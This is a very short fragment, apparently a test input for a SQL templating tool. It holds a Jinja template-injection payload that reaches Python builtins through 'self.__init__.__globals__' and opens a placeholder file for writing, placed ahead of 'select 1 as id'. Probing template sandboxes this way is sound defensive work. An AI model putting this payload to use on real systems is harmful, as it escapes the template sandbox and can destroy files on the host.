{{ self.__init__.__globals__.__builtins__.open('@DROP@', 'w') }}select 1 as id
